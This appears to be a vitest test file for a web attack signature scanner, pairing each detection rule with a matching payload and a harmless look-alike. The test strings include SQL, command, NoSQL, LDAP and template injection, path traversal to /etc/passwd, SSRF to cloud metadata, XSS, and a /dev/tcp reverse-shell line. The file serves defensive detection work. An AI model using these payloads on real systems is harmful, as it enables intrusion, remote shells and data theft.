// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are texts that look like code
import { describe, expect, test } from 'vitest'
import { SIGNATURES, scan } from '../../../src/features/signatures/scanner.ts'
import { createVerdictCache } from '../../../src/features/signatures/verdict-cache.ts'

/** For each rule a text that it matches, and a similar text that it does not match. */
const TEXTS: Readonly<Record<string, readonly [matched: string, passed: string]>> = {
  'sql_injection.break_out': ["x' or 'a'='a", "x's or 'a' is an 'a'"],
  'sql_injection.opening': ['and (select 1)', 'sand (selected)'],
  'sql_injection.effect': ["waitfor delay '0:0:5'", 'wait for the delay (5 s)'],
  'sql_injection.probe': ['(information_schema.tables)', '(the schema of information)'],
  'sql_injection.disguise': ['1 union/**/all', '1 union /* of two */'],
  'path_traversal.climb_to_target': ['../etc/passwd', '../etc/passage'],
  'path_traversal.deep_climb': ['../../../../../x', '../../../../x'],
  'path_traversal.climb': ['../../../x', '../../x'],
  'path_traversal.disguised_climb': ['..%2f..%2fx', '.%2fx'],
  'path_traversal.target': ['/etc/passwd', '/etc/passwd is a file'],
  'command_injection.chained': ['1.2.3.4; cat /etc/issue', 'first; cat food'],
  'command_injection.substituted': ['a$(id)', 'the `id` of it'],
  'command_injection.bare': ['name; id', 'name; idea'],
  'command_injection.shell_idiom': ['sh -i >& /dev/tcp/1.2.3.4/9', '(dev/tcp)'],
  'command_injection.foreign_code': ["system('id')", 'the system (id)'],
  'ssrf_target.metadata': ['http://0xa9fea9fe/', 'see http://169.254.169.254/ there'],
  'ssrf_target.internal': ['http://user@10.1:8080/', 'http://10.example:8080/'],
  'ssrf_target.development': ['http://localhost:3000/', 'http://localhost.example:3000/'],
  'ssrf_target.wrapper': ['gopher://a:25/_', 'gopher: a rodent'],
  'ssrf_target.callback': ['see a1.oastify.com', 'see oastify.com'],
  'cross_site_scripting.script': ['<ScRiPt/x>', '<scripture>'],
  'cross_site_scripting.handler': ['<b onclick=go()>', '<b once=1>'],
  'cross_site_scripting.script_url': ['java\tscript:alert(1)', 'JavaScript: The Good Parts'],
  'cross_site_scripting.active_element': ['<iframe src="/a">', '<frame-work>'],
  'cross_site_scripting.attribute_break_out': ['x" onfocus=go', 'x" on focus = go'],
  'cross_site_scripting.script_break_out': ["'-alert(1)-'", "'-alert-'"],
  'cross_site_scripting.template': ['{{constructor.constructor()}}', '{{name}} (constructor)'],
  'cross_site_scripting.sink': ['(document.cookie)', '(documented cookie)'],
  'nosql_injection.operator': ['user[$ne]', 'user[ne], $ne'],
  'nosql_injection.script': ["';return true", "it's; return it"],
  'ldap_injection.filter': ['*)(uid=*', 'group A) (n=20)'],
  'template_injection.expression': ['${7*7}', '${a*b}'],
}

/** Returns the ids of the rules that a text matches. */
function matchedBy(text: string): string[] {
  const verdict = scan(text, createVerdictCache())
  return SIGNATURES.filter(({ bit }) => verdict & bit).map(({ id }) => id)
}

test('every rule has a text here and its own bit', () => {
  expect(Object.keys(TEXTS)).toEqual(SIGNATURES.map(({ id }) => id))
  expect(new Set(SIGNATURES.map(({ bit }) => bit)).size).toBe(SIGNATURES.length)
  // Operators of bits have 32.
  expect(SIGNATURES.length).toBeLessThanOrEqual(32)
})

describe('a rule matches its attack and not the similar text [S63]:', () => {
  test.each(Object.entries(TEXTS))('%s', (id, [matched, passed]) => {
    expect(matchedBy(matched)).toContain(id)
    expect(matchedBy(passed)).not.toContain(id)
  })
})

describe('padding does not hide an attack [S63]:', () => {
  const pad = (text: string) => text.repeat(5_000)
  test.each([
    ['blanks', `x'${pad(' ')}or${pad('\n')}1=1`, 'sql_injection.break_out'],
    ['comments', `x'${pad('/**/')}or/*${pad('a')}*/1=1`, 'sql_injection.break_out'],
    ['a long value', `${pad('a')}' union select null`, 'sql_injection.break_out'],
    ['parentheses', `x'${pad(')')} or ${pad('(')}1=1`, 'sql_injection.break_out'],
    ['a long user name', `http://${pad('a')}@127.0.0.1/`, 'ssrf_target.internal'],
    ['attributes', `<img ${pad('a=1 ')}onerror=alert(1)>`, 'cross_site_scripting.handler'],
    ['text', `${pad('harmless ')}<svg onload=alert(1)>`, 'cross_site_scripting.handler'],
    ['steps', `${pad('../')}etc/passwd`, 'path_traversal.deep_climb'],
    ['a line separator', '\u20281 union select a from b', 'sql_injection.break_out'],
    ['a name', `${pad('a')}[$ne]`, 'nosql_injection.operator'],
    ['text before a script', `${pad('a ')}';return true`, 'nosql_injection.script'],
    ['text before a filter', `${pad('a')})(uid=*`, 'ldap_injection.filter'],
    ['text before an expression', `${pad('a ')}{{7*7}}`, 'template_injection.expression'],
    [
      'text in an expression',
      `{{${pad('a ')}x.__class__.__mro__}}${pad(' ')}{{ x.__class__ }}`,
      'template_injection.expression',
    ],
    ['a paragraph separator', '\u2029..\u2029exec xp_cmdshell dir', 'sql_injection.effect'],
  ])('%s', (_, text, id) => {
    expect(matchedBy(text)).toContain(id)
  })
})

test('a text with only the punctuation of prose is inspected too [S63]', () => {
  expect(matchedBy('169.254.169.254')).toEqual(['ssrf_target.metadata'])
  expect(matchedBy('metadata.google.internal')).toEqual(['ssrf_target.metadata'])
  expect(matchedBy('exec xp_cmdshell dir')).toContain('sql_injection.break_out')
  expect(matchedBy('@@version')).toEqual(['sql_injection.probe'])
})
